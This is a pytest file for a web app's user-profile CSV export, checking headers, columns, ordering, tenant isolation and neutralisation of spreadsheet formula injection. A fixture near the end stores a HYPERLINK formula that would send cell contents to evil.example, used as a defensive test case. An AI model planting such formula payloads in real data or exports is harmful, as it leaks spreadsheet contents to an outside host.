"""Download CSV: the search as a file that no spreadsheet runs."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta

import pytest
from browser import Browser
from cast import BRITTA, NOW
from profiles import add_crowd

from sp.models import Account, User, UserStatus
from sp.store.engine import Database
from sp.web.spreadsheet import csv_file, harmless

LIST = "/account-manager/business/accounts/user-profiles"
Add = Callable[..., User]


def rows(browser: Browser, query: str = "") -> list[dict[str, str]]:
    text = browser.open(f"{LIST}/download{query}").content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_file_is_an_attachment_in_utf_8_that_excel_reads(alice: Browser) -> None:
    answer = alice.open(f"{LIST}/download")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="user-profiles-business.csv"'
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cache-control"] == "no-store"
    assert answer.content.startswith(b"\xef\xbb\xbf")


def test_every_column_is_in_the_file_also_a_hidden_one(alice: Browser, add: Add) -> None:
    add(
        "off",
        first_name='Dörte "D"',
        last_name="a,b;c",
        federation_id="f-1",
        source="support",
        status=UserStatus.DISABLED,
        last_sign_in_at=NOW + timedelta(hours=1),
    )
    assert rows(alice, "?q=off") == [
        {
            "First Name": 'Dörte "D"',
            "Last Name": "a,b;c",
            "Email Address": "",
            "Username": "off",
            "Federation ID": "f-1",
            "Source": "Support",
            "Created": "2030-01-31T12:00:00Z",
            "Last sign-in": "2030-01-31T13:00:00Z",
            "Status": "Disabled",
        }
    ]


def test_the_whole_search_comes_in_its_order(alice: Browser, database: Database, contoso: Account) -> None:
    crowd = add_crowd(database, contoso, 130)
    names = [row["Username"] for row in rows(alice, "?q=user&status=active&sort=username&direction=desc")]
    assert names == sorted((user.username for user in crowd if user.status == "active"), reverse=True)


def test_nobody_else_is_in_the_file(alice: Browser, add: Add, database: Database, fabrikam: Account) -> None:
    add("gone", status=UserStatus.DELETED)
    add_crowd(database, fabrikam, 3)
    assert [row["Username"] for row in rows(alice)] == [BRITTA.email]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_mallorys_name_is_no_formula(start: str) -> None:
    assert harmless(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


@pytest.mark.parametrize("text", ["", "Britta", "a=b", "'x", " =1", "britta@contoso.example"])
def test_other_values_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("separator", [";", "\t"])
@pytest.mark.parametrize("lead", ["", " ", '"', "x\r\n"])
@pytest.mark.parametrize("start", ["=", "-", "＠"])
def test_no_other_separator_makes_a_formula_of_a_part_of_a_cell(separator: str, lead: str, start: str) -> None:
    """A spreadsheet that separates by semicolons or tabs cuts our cells, and drops quotation marks that follow one."""
    cell = f"Weiss{separator}{lead}{start}HYPERLINK(1)"
    text = b"".join(csv_file(["a", "b"], [["anna", cell], [cell, "anna"]])).decode("utf-8-sig")
    cells = [cell for line in text.splitlines() for row in csv.reader([line], delimiter=separator) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.lstrip('" ').startswith(start)]


@pytest.mark.parametrize("text", ["a;b", "a; b=c", "a\tb", "x-y;z"])
def test_other_separators_alone_change_nothing(text: str) -> None:
    assert harmless(text) == text


def test_a_formula_in_a_profile_is_harmless_in_the_file(alice: Browser, add: Add) -> None:
    add("m", first_name='=HYPERLINK("http://evil.example?x="&A1)', last_name="@SUM(1)")
    (row,) = rows(alice, "?q=hyperlink")
    assert row["First Name"] == '\'=HYPERLINK("http://evil.example?x="&A1)'
    assert row["Last Name"] == "'@SUM(1)"
